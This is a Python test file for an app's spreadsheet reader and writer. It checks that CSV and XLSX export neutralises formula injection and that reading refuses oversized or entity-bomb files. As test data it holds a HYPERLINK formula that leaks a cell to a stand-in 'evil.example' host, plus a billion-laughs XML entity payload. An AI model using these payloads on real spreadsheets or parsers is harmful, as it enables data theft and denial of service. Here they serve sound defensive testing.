"""The one spreadsheet reader and writer: text stays text, control characters go, and a file is read within bounds."""
import ast
import csv
import io
import tracemalloc
import zipfile
from pathlib import Path

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st
from openpyxl import Workbook, load_workbook

from velkomst import spreadsheets
from velkomst.spreadsheets import Sheet, TableRefused, csv_bytes, read_table, xlsx_bytes

ROOT = Path(__file__).resolve().parents[1]
NAMES = st.one_of(
    st.text(max_size=40),
    st.builds(lambda start, rest: start + rest, st.sampled_from(list("=+-@\t\r") + ["=HYPERLINK(", "+1", "@SUM("]), st.text(max_size=30)),
)


def csv_cells(content: bytes) -> list[str]:
    return [cell for row in csv.reader(io.StringIO(content.decode("utf-8-sig"), newline=""), delimiter=";") for cell in row]


@settings(max_examples=200, deadline=None)
@given(name=NAMES)
def test_no_csv_cell_starts_a_formula(name):
    header, text, number, negative = csv_cells(csv_bytes(["Navn"], [[name], [1], [-2.5]]))
    assert not text.startswith(("=", "+", "-", "@", "\t", "\r"))
    assert (number, negative) == ("1", "-2,5")  # numbers stay numbers


@settings(max_examples=100, deadline=None)
@given(name=NAMES)
def test_no_xlsx_cell_is_a_formula_and_every_text_reads_back(name):
    content = xlsx_bytes([Sheet("Ark", ["Navn", "Tal"], [[name, 3]])], title=name)
    sheet = load_workbook(io.BytesIO(content)).active
    assert all(cell.data_type != "f" for row in sheet.iter_rows() for cell in row)
    # Written through lxml, a carriage return is kept as a character reference: the text reads back as it was.
    assert (sheet["A2"].value or "") == spreadsheets.safe_text(name)


def test_a_name_made_to_leak_data_is_text_in_both_formats():
    attack = '=HYPERLINK("http://evil.example/?leak="&B2,"Open record")'
    assert csv_cells(csv_bytes(["Navn"], [[attack]]))[1] == "'" + attack
    assert "'=HYPERLINK" in csv_bytes(["Navn"], [[attack]]).decode("utf-8-sig")
    sheet = load_workbook(io.BytesIO(xlsx_bytes([Sheet("Ark", ["Navn"], [[attack]])], title="t"))).active
    assert sheet["A2"].data_type == "s" and sheet["A2"].value == attack


def test_control_characters_are_left_out_not_a_server_error():
    name = "Ole\x0bna\x00 Ko\x1fval"
    sheet = load_workbook(io.BytesIO(xlsx_bytes([Sheet("Ark", ["Navn"], [[name]])], title=name))).active
    assert sheet["A2"].value == "Olena Koval"
    assert "Olena Koval" in csv_bytes(["Navn"], [[name]]).decode("utf-8-sig")


def test_an_importer_reads_back_what_the_writer_protected():
    content = csv_bytes(["first_name"], [["=Olena"], ["-Ivan"]])
    table = read_table("list.csv", content)
    assert [cells[0] for _line, cells in table.lines] == ["=Olena", "-Ivan"]


def test_every_csv_and_xlsx_the_app_writes_goes_through_the_one_writer():
    offenders = []
    for path in (ROOT / "velkomst").rglob("*.py"):
        if path.name == "spreadsheets.py" or "migrations" in path.parts:
            continue
        for node in ast.walk(ast.parse(path.read_text(encoding="utf-8"))):
            if isinstance(node, ast.Attribute) and node.attr in ("writer", "DictWriter") and getattr(node.value, "id", "") == "csv":
                offenders.append(f"{path}: csv.{node.attr}")
            if isinstance(node, ast.ImportFrom) and node.module == "openpyxl" and any(a.name == "Workbook" for a in node.names):
                offenders.append(f"{path}: openpyxl.Workbook")
    assert offenders == []


# --- reading within bounds --------------------------------------------------------------------------------------------

def _xlsx_with_part(part: str, change) -> bytes:
    """A real workbook (one column, "first_name") whose XML part ``part`` is ``change(its bytes)``."""
    book = Workbook()
    book.active.append(["first_name"])
    buffer = io.BytesIO()
    book.save(buffer)
    source = zipfile.ZipFile(io.BytesIO(buffer.getvalue()))
    out = io.BytesIO()
    with zipfile.ZipFile(out, "w", zipfile.ZIP_DEFLATED) as target:
        for item in source.infolist():
            data = source.read(item.filename)
            target.writestr(item, change(data) if item.filename == part else data)
    return out.getvalue()


def _xlsx_with_sheet_xml(sheet_xml: str) -> bytes:
    """A real workbook whose first sheet's XML is replaced (to claim a size or hold rows a generator would not write)."""
    return _xlsx_with_part("xl/worksheets/sheet1.xml", lambda _stored: sheet_xml.encode())


SHEET = ('<worksheet xmlns="http://schemas.openxmlformats.org/spreadsheetml/2006/main"><dimension ref="{ref}"/>'
         '<sheetData>{rows}</sheetData></worksheet>')


def _row(number: int, text: str | None) -> str:
    cell = f'<c r="A{number}" t="inlineStr"><is><t>{text}</t></is></c>' if text else ""
    return f'<row r="{number}">{cell}</row>'


def test_a_sheet_claiming_sixteen_thousand_columns_is_read_as_it_is_stored():
    rows = "".join(_row(n, "Olena" if n > 1 else "first_name") for n in range(1, 2002))
    content = _xlsx_with_sheet_xml(SHEET.format(ref="A1:XFD2001", rows=rows))
    assert len(content) < 100_000
    tracemalloc.start()
    table = read_table("list.xlsx", content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert len(table.lines) == 2000 and table.headers == ["first_name"]
    assert peak < 50 * 1024 * 1024, f"{peak / 1e6:.0f} MB to read a {len(content) / 1e3:.0f} kB file"


LAUGHS = ('<?xml version="1.0"?><!DOCTYPE lolz [<!ENTITY lol "lolololololololololo">'
          + "".join(f'<!ENTITY lol{n} "{("&lol;" if n == 1 else f"&lol{n - 1};") * 10}">' for n in range(1, 10)) + ']>')


@pytest.mark.parametrize("part", ["xl/workbook.xml", "xl/worksheets/sheet1.xml"])
def test_a_workbook_with_entities_that_expand_a_billion_times_is_refused_not_expanded(part):
    """Whichever XML parser openpyxl uses (the standard library's through defusedxml, or lxml once installed for
    writing), a declared entity is never expanded: the file is refused, within a few megabytes."""
    def with_entities(stored: bytes) -> bytes:
        body = stored.split(b"?>", 1)[1] if stored.startswith(b"<?xml") else stored
        return LAUGHS.encode() + body.replace(b"first_name", b"&lol9;").replace(b"<sheets>", b"<sheets>&lol9;")

    content = _xlsx_with_part(part, with_entities)
    tracemalloc.start()
    with pytest.raises(TableRefused):
        read_table("list.xlsx", content)
    peak = tracemalloc.get_traced_memory()[1]
    tracemalloc.stop()
    assert peak < 50 * 1024 * 1024


def test_reading_stops_where_the_empty_rows_begin():
    rows = "".join(_row(n, "x" if n <= 11 else None) for n in range(1, 200_001))
    content = _xlsx_with_sheet_xml(SHEET.format(ref="A1:A200000", rows=rows))
    consumed = []
    original = spreadsheets._xlsx_rows

    def counting(data):
        for item in original(data):
            consumed.append(item[0])
            yield item

    spreadsheets._xlsx_rows = counting
    try:
        table = read_table("list.xlsx", content)
    finally:
        spreadsheets._xlsx_rows = original
    assert len(table.lines) == 10
    assert len(consumed) <= 11 + spreadsheets.EMPTY_ROWS_ENDING_THE_DATA


def test_too_many_lines_or_columns_are_refused_with_the_limit():
    many = "first_name\n" + "Olena\n" * (spreadsheets.MAX_ROWS + 1)
    with pytest.raises(TableRefused, match=str(spreadsheets.MAX_ROWS)):
        read_table("list.csv", many.encode())
    wide = "first_name\n" + ";" * 100 + "x\n"
    with pytest.raises(TableRefused, match=str(spreadsheets.MAX_COLUMNS)):
        read_table("list.csv", wide.encode())
